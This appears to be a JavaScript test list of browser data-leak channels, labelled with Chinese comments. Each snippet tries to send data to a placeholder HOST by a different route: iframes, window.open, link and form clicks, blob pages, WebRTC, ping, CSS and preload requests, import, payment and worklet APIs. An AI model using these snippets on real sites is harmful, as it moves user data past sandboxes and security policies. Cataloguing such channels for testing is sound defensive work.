// 框的窗口
const frame = document.createElement("iframe");
document.body.append(frame);
frame.contentWindow.open("http://HOST/?data");
// 框的编号
document.body.append(document.createElement("iframe"));
window[0].open("http://HOST/?data");
// 框里的网页
const frame = Object.assign(document.createElement("iframe"), { srcdoc: "<script>open('http://HOST/?data')<\/script>" });
document.body.append(frame);
// 影子里的框
const host = document.createElement("div");
const frame = document.createElement("iframe");
document.body.append(host);
host.attachShadow({ mode: "closed" }).append(frame);
frame.contentWindow.open("http://HOST/?data");
// 框里的 WebRTC
const frame = document.createElement("iframe");
document.body.append(frame);
const iceServers = [{ urls: "turn:HOST?transport=tcp", username: "a", credential: "b" }];
const connection = new frame.contentWindow.RTCPeerConnection({ iceServers });
connection.createDataChannel("x");
connection.setLocalDescription();
// object
document.body.insertAdjacentHTML("beforeend", "<object data='about:blank'></object>");
window[0].open("http://HOST/?data");
// 替读者点
Object.assign(document.createElement("a"), { href: "http://HOST/?data", target: "_blank" }).click();
// 派出的点击
Object.assign(document.createElement("a"), { href: "http://HOST/?data", target: "_blank" }).dispatchEvent(new MouseEvent("click"));
// 放进页面再点
const link = Object.assign(document.createElement("a"), { href: "http://HOST/?data", target: "_blank" });
link.append(document.createElement("b"));
document.body.append(link);
link.firstChild.click();
// 图上的链接
document.body.insertAdjacentHTML("beforeend", "<svg><a href='http://HOST/svg' target='_blank'><text>x</text></a></svg>");
document.querySelector("svg a[target] text").dispatchEvent(new MouseEvent("click", { bubbles: true }));
// 影子里的链接
const host = document.createElement("div");
const link = Object.assign(document.createElement("a"), { href: "http://HOST/?data", target: "_blank" });
document.body.append(host);
host.attachShadow({ mode: "open" }).append(link);
link.click();
// 三个参数的 open
document.open("http://HOST/?data", "_blank", "");
// 表单
document.body.insertAdjacentHTML("beforeend", "<form action='http://HOST/form' target='_blank'></form>");
document.body.lastElementChild.submit();
// 表单的按钮
document.body.insertAdjacentHTML("beforeend", "<form action='http://HOST/form' target='_blank'><button>x</button></form>");
document.body.lastElementChild.firstChild.click();
// blob 里的网页
const page = new Blob(["<script>location.href = 'http://HOST/?data'<\/script>"], { type: "text/html" });
location.href = URL.createObjectURL(page);
// blob 的新窗口
const page = new Blob(["<script>location.href = 'http://HOST/?data'<\/script>"], { type: "text/html" });
Object.assign(document.createElement("a"), { href: URL.createObjectURL(page), target: "_blank" }).click();
// 存下别处的
Object.assign(document.createElement("a"), { href: "http://HOST/?data", download: "x" }).click();
// navigation
navigation.navigate("http://HOST/?data");
// 画中画
documentPictureInPicture.requestWindow().then(inner => inner.open("http://HOST/?data"));
// 推测
const rules = { prefetch: [{ source: "list", urls: ["http://HOST/pre"] }], prerender: [{ source: "list", urls: ["http://HOST/whole"] }] };
document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", text: JSON.stringify(rules) }));
// 预取
for (const rel of ["prefetch", "preload", "modulepreload", "prerender", "manifest", "icon", "next", "dns-prefetch"])
  document.head.append(Object.assign(document.createElement("link"), { rel, as: "script", href: `http://HOST/${rel}` }));
// ping
const link = Object.assign(document.createElement("a"), { href: "#x", ping: "http://HOST/ping" });
document.body.append(link);
link.click();
// 样式
document.head.insertAdjacentHTML("beforeend", `<style>@import "http://HOST/css"; body { background: url(http://HOST/background) }
@font-face { font-family: x; src: url(http://HOST/font) } * { cursor: url(http://HOST/cursor), auto; font-family: x }</style>`);
// 图和媒体
document.body.insertAdjacentHTML("beforeend", `<video poster="http://HOST/poster" src="http://HOST/video"></video>
<svg><image href="http://HOST/image"/><use href="http://HOST/use#x"/></svg><input type="image" src="http://HOST/input">
<img srcset="http://HOST/srcset 1x">`);
// 别的连接
fetch("http://HOST/keepalive", { mode: "no-cors", keepalive: true }).catch(() => {});
new EventSource("http://HOST/events");
new WebTransport("https://HOST/transport").ready.catch(() => {});
// import
import("http://HOST/module.js").catch(() => {});
import("data:text/javascript,fetch('http://HOST/inside')").catch(() => {});
// 付款
const total = { label: "x", amount: { currency: "CNY", value: "1" } };
new PaymentRequest([{ supportedMethods: "http://HOST/pay" }], { total }).canMakePayment().catch(() => {});
// 后台取
navigator.serviceWorker.ready.then(kept => kept.backgroundFetch.fetch("x", ["http://HOST/background"])).catch(() => {});
// 工作小件
CSS.paintWorklet?.addModule("http://HOST/paint").catch(() => {});
new AudioContext().audioWorklet.addModule("http://HOST/audio").catch(() => {});
